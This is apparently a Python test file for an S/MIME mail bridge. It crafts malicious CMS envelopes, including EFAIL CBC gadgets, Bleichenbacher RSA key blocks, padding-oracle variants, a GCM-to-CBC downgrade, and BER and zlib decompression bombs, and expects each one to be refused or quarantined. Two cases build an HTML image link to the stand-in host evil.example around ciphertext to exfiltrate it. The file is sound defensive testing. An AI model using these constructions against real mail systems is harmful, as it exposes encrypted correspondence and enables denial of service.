"""Envelopes that would make the bridge an oracle, a decryptor for others, or run out of room."""

import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

from asn1crypto import algos, cms, core
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.ciphers import Cipher, modes
from cryptography.hazmat.primitives.ciphers import algorithms as ciphers
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from passerelle.core.cms import ber, compressed, enveloped, recipients, signed, structure
from passerelle.core.mail import smime
from tests.attacks import bridge, forging
from tests.attacks.cms_wrapping import EVIL, GOOD
from tests.attacks.registry import Attack, Door
from tests.vectors import pki

EFAIL = "EFAIL (Poddebniak et al., USENIX Security 2018; CVE-2017-17689)"
DIRECT = "EFAIL direct exfiltration (CVE-2017-17688, CVE-2017-17689)"
MILLION = "Bleichenbacher, CRYPTO 1998; ROBOT (CVE-2017-13099)"
PADDING = "Vaudenay, EUROCRYPT 2002"
DOWNGRADE = "AEAD-to-CBC downgrade (Strenzke and Roth; RFC 9709 §1)"
BOMB = "CWE-409, CWE-674, CWE-400"
KEY, IV = bytes(range(32)), bytes(16)
"""Fixed, so that what an attack makes of a block is the same in each run."""

PLAIN = GOOD + b" " * (-len(GOOD) % 16)


@cache
def _wrapped(key: bytes = KEY) -> cms.RecipientInfo:
    return recipients.wrap(key, pki.organisation().certificate, oaep=False)


def _cbc(plain: bytes = PLAIN, padding: bytes = b"\x10" * 16) -> bytes:
    encryptor = Cipher(ciphers.AES(KEY), modes.CBC(IV)).encryptor()
    return encryptor.update(plain + padding) + encryptor.finalize()


def _envelope(content: bytes, iv: bytes = IV, infos: list[cms.RecipientInfo] | None = None, **changes: Any) -> bytes:  # noqa: ANN401 - asn1crypto's values
    algorithm = {"algorithm": changes.get("cipher", "aes256_cbc"), "parameters": core.OctetString(iv)}
    info = {
        "content_type": "data",
        "content_encryption_algorithm": algos.EncryptionAlgorithm(algorithm),
        "encrypted_content": content,
    }
    found = {"version": "v0", "recipient_infos": infos or [_wrapped()], "encrypted_content_info": info}
    made = cms.ContentInfo({"content_type": "enveloped_data", "content": cms.EnvelopedData(found)})
    return forging.mail(smime.wrap(made.dump(), "enveloped-data"))


def _xor(one: bytes, other: bytes) -> bytes:
    return bytes(left ^ right for left, right in zip(one, other, strict=True))


def _gadget(*chosen: bytes) -> bytes:
    """Put chosen blocks, each before a block that nobody chooses, in front of somebody's letter."""
    secret = _cbc()
    iv = _xor(PLAIN[:16], chosen[0])
    blocks = [secret[:16]]
    for block in chosen[1:]:
        blocks += [_xor(_xor(PLAIN[:16], IV), block), secret[:16]]
    return _envelope(b"".join(blocks) + secret, iv)


def _broken(wrapped: Callable[[int], bytes]) -> Callable[[], bytes]:
    """Wrap a key in a block of RSA that is not one of PKCS#1 v1.5."""

    def build() -> bytes:
        public = pki.organisation().certificate.public_key()
        assert isinstance(public, rsa.RSAPublicKey)
        numbers = public.public_numbers()
        block = pow(int.from_bytes(wrapped(256), "big"), numbers.e, numbers.n).to_bytes(256, "big")
        info = _wrapped().copy()
        info.chosen["encrypted_key"] = block
        return _envelope(_cbc(), infos=[info])

    return build


def _downgraded() -> bytes:
    """Show the blocks of AES-GCM as if they were of AES-CBC."""
    content = AESGCM(KEY).encrypt(IV[:12], PLAIN, None)[:-16]
    return _envelope(content, IV[:12] + b"\0\0\0\2")


def _short_tag() -> bytes:
    made = cms.ContentInfo.load(enveloped.seal(GOOD, (pki.organisation().certificate,), enveloped.MODERN))
    content = made["content"]
    algorithm = content["auth_encrypted_content_info"]["content_encryption_algorithm"]
    nonce = algorithm["parameters"].parse(enveloped.GcmParameters)["nonce"].native
    algorithm["parameters"] = enveloped.GcmParameters({"nonce": nonce, "icvlen": 4})
    content["mac"] = content["mac"].native[:4]
    return forging.mail(smime.wrap(made.dump(force=True), "authEnveloped-data"))


def _exfiltrating() -> bytes:
    """Put an envelope between two halves of a picture's address."""
    secret = smime.divide(_envelope(_cbc()))[1]
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    return bridge.mixed(html, secret, b'Content-Type: text/html\r\n\r\n">', top=bridge.from_doctor())


def _signed_by_another() -> bytes:
    """Sign somebody's envelope as one's own."""
    other = pki.person("attacker@x.example")
    secret = smime.divide(_envelope(_cbc(EVIL + b" " * (-len(EVIL) % 16))))[1]
    return forging.mail(smime.wrap(signed.sign(secret, bridge._key(other), pki.NOW), "signed-data"))


def _squeezed(content: bytes) -> bytes:
    found = {
        "version": "v0",
        "compression_algorithm": {"algorithm": "zlib"},
        "encap_content_info": {"content_type": "data", "content": zlib.compress(content, 9)},
    }
    made = cms.ContentInfo({"content_type": "compressed_data", "content": cms.CompressedData(found)})
    return smime.wrap(made.dump(), "compressed-data")


def _again(how: Callable[[bytes], bytes], times: int, entity: bytes) -> bytes:
    for _ in range(times):
        entity = how(entity)
    return entity


def _cms(data: bytes) -> Callable[[], bytes]:
    return lambda: forging.mail(smime.wrap(data, "signed-data"))


def _case(name: str, source: str, build: Callable[[], bytes], verdict: str) -> Attack:
    return Attack(f"envelope: {name}", source, Door.APICRYPT, build, verdict, (b"doublez la dose", b"evil.example"))


SILENT = "QUARANTINED cms.cannot-decrypt"
UNSIGNED = "QUARANTINED cipher.unsigned"
ATTACKS = (
    _case("none wrong: the letter crosses", "control", lambda: _envelope(_cbc()), "READY"),
    _case("unsigned letter", EFAIL, lambda: forging.sealed(EVIL), UNSIGNED),
    _case("unsigned letter, authenticated", "RFC 8551 §3.5", lambda: forging.sealed(EVIL, enveloped.MODERN), UNSIGNED),
    _case("first block rewritten", EFAIL, lambda: _envelope(_cbc(), _xor(PLAIN[:16], b"Content-type: ap")), "READY"),
    _case("type rewritten by a gadget", EFAIL, lambda: _gadget(b"Content-Type: te"), "QUARANTINED mail.nul"),
    _case(
        "picture written by gadgets",
        EFAIL,
        lambda: _gadget(b"Content-Type: te", b"xt/html\r\n\r\n<img ", b' src="//evil.ex"'),
        "QUARANTINED mail.nul",
    ),
    _case("picture's address around the envelope", DIRECT, _exfiltrating, UNSIGNED),
    _case("envelope signed by another", "RFC 2634 §1.2; Davis, USENIX 2001", _signed_by_another, UNSIGNED),
    _case("blocks of GCM shown as CBC", DOWNGRADE, _downgraded, SILENT),
    _case("tag of 4 bytes", "Ferguson 2005; RFC 5084 §3.2", _short_tag, "REFUSED cms.gcm"),
    _case("padding of 17", PADDING, lambda: _envelope(_cbc(padding=b"\x11" * 16)), SILENT),
    _case("padding of 0", PADDING, lambda: _envelope(_cbc(padding=bytes(16))), SILENT),
    _case("no padding", PADDING, lambda: _envelope(_cbc(padding=b"")), SILENT),
    _case("half a block", PADDING, lambda: _envelope(_cbc()[:-8]), "REFUSED cms.structure"),
    _case("key block of type 1", MILLION, _broken(lambda size: b"\0\1" + b"\xff" * (size - 35) + b"\0" + KEY), SILENT),
    _case("key block without an end", MILLION, _broken(lambda size: b"\0\2" + b"\xff" * (size - 2)), SILENT),
    _case("key block of zeros but one", MILLION, _broken(lambda size: bytes(size - 1) + b"\1"), SILENT),
    _case(
        "key of another length",
        MILLION,
        _broken(lambda size: b"\0\2" + b"\xff" * (size - 19) + b"\0" + KEY[:16]),
        SILENT,
    ),
    _case(
        "3DES",
        "SWEET32 (CVE-2016-2183)",
        lambda: _envelope(bytes(16), bytes(8), cipher="tripledes_3key"),
        "REFUSED cms.cipher",
    ),
    _case(
        "recipients without end",
        BOMB,
        lambda: _envelope(_cbc(), infos=[_wrapped()] * (structure.MOST_RECIPIENTS + 1)),
        "REFUSED cms.recipients",
    ),
    _case("nested without end", BOMB, _cms(b"\x30\x80" * 100_000), "REFUSED cms.depth"),
    _case(
        "segments without end", BOMB, _cms(b"\x24\x80" + b"\x04\x00" * (ber.MOST_ELEMENTS + 1)), "REFUSED cms.elements"
    ),
    _case("a length of 4 GB", BOMB, _cms(b"\x30\x84\xff\xff\xff\xff"), "REFUSED cms.ber"),
    _case(
        "an identifier of 1 MB",
        "quadratic decoding (CWE-407)",
        _cms(b"\x30\x83\x10\x00\x04\x06\x83\x0f\xff\xff" + b"\xff" * 0xFFFFF),
        "REFUSED cms.ber",
    ),
    _case(
        "zlib bomb",
        BOMB,
        lambda: forging.sealed(_squeezed(bytes(compressed.LARGEST + 1))),
        "QUARANTINED cms.compressed",
    ),
    _case(
        "compressed ten times", BOMB, lambda: forging.sealed(_again(_squeezed, 10, GOOD)), "QUARANTINED cipher.layers"
    ),
    _case(
        "signed ten times",
        BOMB,
        lambda: forging.sealed(
            _again(
                lambda one: forging.opaque(forging.Forgery(shown=one, attributes=forging.attributes(one)).data()),
                10,
                GOOD,
            )
        ),
        "QUARANTINED cipher.layers",
    ),
    _case(
        "enveloped twice",
        "RFC 8551 §3.7",
        lambda: forging.sealed(smime.divide(forging.sealed(GOOD))[1]),
        "QUARANTINED cipher.layers",
    ),
)
